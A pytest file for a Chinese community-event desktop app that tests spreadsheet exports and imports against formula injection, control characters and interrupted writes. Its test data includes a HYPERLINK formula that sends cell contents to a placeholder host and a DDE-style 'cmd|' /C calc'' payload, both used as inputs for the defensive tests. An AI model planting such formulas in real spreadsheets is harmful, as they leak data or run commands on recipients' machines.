"""Exports write text as text and never leave a broken or stray file; imports refuse formula cells.

Each test here was written against a defect found by a hostile test (issue 9): a title starting with `=`
exported as a live formula, a pasted control character breaking every export, a killed `export matters`
replacing a good file with a broken one, and openpyxl's sheet files left in the shared temp folder.
"""

from __future__ import annotations

import io
import os
import re
import sqlite3
import tempfile
import zipfile
from collections.abc import Callable
from contextlib import closing
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from db_helpers import FakeClock, dump_tables
from openpyxl import load_workbook
from openpyxl.workbook.workbook import Workbook
from sqlalchemy import select

from desktop import search_grams
from desktop.db import Database
from desktop.models import Event, Grid, MatterItem
from desktop.paths import sweep_temp, temp_dir
from desktop.services import events, matters
from desktop.services.accounts.permissions import SYSTEM_ACTOR, Actor
from desktop.services.events import EventInput
from desktop.services.events.export import export_events
from desktop.services.events.queries import EventFilter, Sort
from desktop.services.matters import DepartmentInput, ItemInput, listfile
from desktop.services.matters import exchange as matter_exchange
from desktop.services.matters.listfile import ITEM_HEADERS, FileRejected

ActorOf = Callable[[Database, str], Actor]
FORMULA = '=HYPERLINK("http://example.invalid/?d="&A1,"详情")'
# A formula-looking text, an Excel error code (openpyxl's other trigger) and a text starting with @.
NASTY = (FORMULA, "#N/A", "@SUM(1+1)*cmd|' /C calc'!A0")


def formulas_in(path: Path) -> list[str]:
    """Every <f> element of every worksheet: a cell Excel would evaluate."""
    with zipfile.ZipFile(path) as archive:
        return [
            m
            for name in archive.namelist()
            if name.startswith("xl/worksheets/")
            for m in re.findall(r"<f[\s>/][^<]*", archive.read(name).decode("utf-8"))
        ]


def cells(path: Path, sheet: str) -> list[tuple[Any, str]]:
    """(value, data type) of every cell, read as Excel would (formulas not replaced by cached values)."""
    book = load_workbook(path, data_only=False)
    try:
        return [(c.value, c.data_type) for row in book[sheet].iter_rows() for c in row]
    finally:
        book.close()


def private_leftovers(db: Database) -> list[str]:
    folder = temp_dir(db.path)
    return sorted(p.name for p in folder.iterdir()) if folder.exists() else []


# --- events -----------------------------------------------------------------------------------------


@pytest.fixture(autouse=True)
def _out_folder(tmp_path: Path) -> None:
    """Writers never make a missing folder (a typo must not put the file somewhere new)."""
    (tmp_path / "out").mkdir()


@pytest.fixture
def db(demo_db: Database) -> Database:
    demo_db.clock = FakeClock(datetime(2026, 3, 2, 1, 0, tzinfo=UTC))
    return demo_db


def an_event(db: Database, **changes: Any) -> EventInput:
    with db.reading() as session:
        grid = session.scalars(select(Grid).order_by(Grid.code)).first()
        item = session.scalar(select(MatterItem.id).where(MatterItem.name == "邻里纠纷"))
        assert grid is not None and item is not None
    values: dict[str, Any] = dict(
        channel="网格员上报", occurred_at=db.clock() - timedelta(minutes=30), community_id=grid.community_id,
        grid_id=grid.id, matter_item_id=item, title="楼上漏水引发争执", description="多次协商未果，请求协调处理。",
        address="清溪路 1 号", reporter_name="张建国", reporter_phone="13905711234",
    )  # fmt: skip
    values.update(changes)
    return EventInput(**values)


def test_a_formula_title_is_exported_as_text(db: Database, actor_of: ActorOf, tmp_path: Path) -> None:
    operator = actor_of(db, "shouli")
    for title, address in zip(NASTY, ("=1+1", "=A1", "#DIV/0!"), strict=True):
        events.create_event(db, operator, an_event(db, title=title, address=address))
    path = tmp_path / "out" / "events.xlsx"
    export_events(db, operator, EventFilter(states=("已受理",), text=""), Sort(), path)
    assert formulas_in(path) == []
    written = cells(path, "事件")
    for text in (*NASTY, "=1+1", "=A1", "#DIV/0!"):
        assert (text, "s") in written, text


def test_control_characters_in_a_title_no_longer_break_the_export(
    db: Database, actor_of: ActorOf, tmp_path: Path
) -> None:
    operator = actor_of(db, "shouli")
    created = events.create_event(
        db, operator, an_event(db, title="漏水\x00\x01\x07争执", address="清溪路\x0b2 号")
    )
    with db.reading() as session:
        row = session.get(Event, created.id)
        assert row is not None and (row.title, row.address) == ("漏水争执", "清溪路2 号")
    path = tmp_path / "out" / "events.xlsx"
    assert export_events(db, operator, EventFilter(), Sort(), path) > 0
    assert ("漏水争执", "s") in cells(path, "事件")


def test_a_row_saved_before_the_cleaning_still_exports(
    db: Database, actor_of: ActorOf, tmp_path: Path
) -> None:
    """Databases written by earlier versions may hold control characters: the export drops them."""
    operator = actor_of(db, "shouli")
    created = events.create_event(db, operator, an_event(db))
    with closing(sqlite3.connect(db.path)) as conn, conn:  # as an earlier version could have saved it
        # The search index's trigger needs the program's function (desktop/search_grams.py).
        conn.create_function(search_grams.SQL_FUNCTION, -1, search_grams.grams, deterministic=True)
        conn.execute("UPDATE event SET title = ? WHERE id = ?", ("旧数据\x07标题", created.id))
    path = tmp_path / "out" / "events.xlsx"
    export_events(db, operator, EventFilter(), Sort(), path)
    assert ("旧数据标题", "s") in cells(path, "事件")


def test_export_temp_files_are_private_and_removed_when_the_export_fails(
    db: Database, actor_of: ActorOf, tmp_path: Path
) -> None:
    operator = actor_of(db, "shouli")
    for n in range(3):
        events.create_event(db, operator, an_event(db, title=f"第{n}号楼漏水"))
    seen: list[tuple[str, list[str]]] = []

    def progress(done: int, total: int) -> None:
        seen.append((tempfile.gettempdir(), private_leftovers(db)))
        if done:  # the first batch is written to the sheet's row file: fail now
            raise RuntimeError("power cut")

    system_temp = tempfile.gettempdir()
    with pytest.raises(RuntimeError):
        export_events(
            db, operator, EventFilter(), Sort(), tmp_path / "out" / "events.xlsx", progress, batch=2
        )
    private = temp_dir(db.path)
    assert seen[-1][0] == str(private)
    assert seen[-1][1], "the sheet's row file was written there"
    assert private_leftovers(db) == []
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == []
    assert tempfile.gettempdir() == system_temp
    assert private.stat().st_mode & 0o077 == 0


def test_old_leftovers_are_swept_at_start_up(db: Database) -> None:
    folder = temp_dir(db.path)
    folder.mkdir(exist_ok=True)
    old, new = folder / "openpyxl.old", folder / "openpyxl.new"
    old.write_text("标题")
    new.write_text("标题")
    hours_ago = datetime.now().timestamp() - 7200
    os.utime(old, (hours_ago, hours_ago))
    assert sweep_temp(db.path) == 1
    assert private_leftovers(db) == ["openpyxl.new"]


# --- the matter list --------------------------------------------------------------------------------


def col(name: str) -> int:
    return ITEM_HEADERS.index(name) + 1


def export(db: Database, path: Path) -> Path:
    matter_exchange.export_xlsx(db, SYSTEM_ACTOR, path)
    return path


def a_town_item(db: Database, **changes: Any) -> ItemInput:
    tree = matters.category_tree(db, SYSTEM_ACTOR)
    category = next(c for d in tree for c in d.categories if c.code.startswith("02"))
    department = matters.list_departments(db, SYSTEM_ACTOR)[0]
    values: dict[str, Any] = dict(
        category_id=category.id, code="0201901", name="茶园采摘用工纠纷", description="采茶季临时用工纠纷。",
        level="镇街", lead_department_code=department.code, co_department_codes=(), time_limit_days=7,
        admitted=True, admitted_from=date(2026, 3, 1), admitted_until=None,
    )  # fmt: skip
    values.update(changes)
    return ItemInput(**values)


def test_matters_export_writes_formula_text_as_text_and_reimports_unchanged(
    town_db: Database, tmp_path: Path
) -> None:
    matters.create_local_item(
        town_db, SYSTEM_ACTOR,
        a_town_item(
            town_db, name=FORMULA, description="=1+1\n第二行\t制表", admission_note="#N/A", legal_basis="=SUM(A1:A9)"
        ),
    )  # fmt: skip
    matters.save_department(
        town_db, SYSTEM_ACTOR, DepartmentInput(code="ZJ99", name="=部门", kind="镇街内设机构", note="=备注")
    )
    path = export(town_db, tmp_path / "out" / "list.xlsx")
    assert formulas_in(path) == []
    written = cells(path, "事项清单")
    for text in (FORMULA, "=1+1\n第二行\t制表", "#N/A", "=SUM(A1:A9)"):
        assert (text, "s") in written, text
    assert ("=部门", "s") in cells(path, "部门")
    # The program's own file comes back unchanged: nothing to add, change or retire.
    diff = matter_exchange.compare(town_db, SYSTEM_ACTOR, listfile.read_xlsx(town_db, path))
    assert diff.is_empty


def test_a_formula_cell_in_an_imported_file_is_reported_with_its_row(
    town_db: Database, tmp_path: Path
) -> None:
    path = export(town_db, tmp_path / "f.xlsx")
    book = load_workbook(path)
    book["事项清单"].cell(row=5, column=col("事项说明"), value="=A5&B5")  # a real formula cell
    book["版本"]["B1"] = "2026.9"
    book["版本"]["B2"] = "2026-09-01"
    book.save(path)
    before = dump_tables(town_db.path)
    with pytest.raises(FileRejected) as rejected:
        listfile.read_xlsx(town_db, path)
    errors = rejected.value.errors
    assert [(e.sheet, e.row) for e in errors] == [("事项清单", 5)]
    assert "事项说明" in errors[0].zh and "是公式，请改为文字" in errors[0].zh
    assert "第 5 行" in rejected.value.zh
    assert dump_tables(town_db.path) == before


def half_a_workbook(self: Workbook, filename: Any) -> None:
    """Workbook.save that dies halfway: part of the zip is on disk, then the process is gone."""
    buffer = io.BytesIO()
    type(self).__dict__["_real_save"](self, buffer)
    data = buffer.getvalue()
    Path(filename).write_bytes(data[: len(data) // 2])
    raise OSError("killed mid-export")


@pytest.mark.parametrize("kind", ["export", "template"])
def test_an_interrupted_matters_export_leaves_the_previous_file(
    town_db: Database, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, kind: str
) -> None:
    folder = tmp_path / "out"
    target = export(town_db, folder / "list.xlsx")
    good = target.read_bytes()
    monkeypatch.setattr(Workbook, "_real_save", Workbook.save, raising=False)
    monkeypatch.setattr(Workbook, "save", half_a_workbook)
    with pytest.raises(OSError, match="killed"):
        if kind == "export":
            matter_exchange.export_xlsx(town_db, SYSTEM_ACTOR, target)
        else:
            matter_exchange.write_template(target)
    assert target.read_bytes() == good
    assert sorted(p.name for p in folder.iterdir()) == ["list.xlsx"]
    assert private_leftovers(town_db) == []


def test_the_copied_openpyxl_rules_agree_with_openpyxl() -> None:
    """common/xlsx.py keeps its own copy of what openpyxl refuses or turns into an error cell."""
    from openpyxl.cell import cell as openpyxl_cell

    from desktop.services.common import xlsx

    assert xlsx.ERROR_CODES == openpyxl_cell.ERROR_CODES
    every = "".join(map(chr, range(0x100)))
    assert xlsx.ILLEGAL_CHARACTERS_RE.findall(every) == openpyxl_cell.ILLEGAL_CHARACTERS_RE.findall(every)
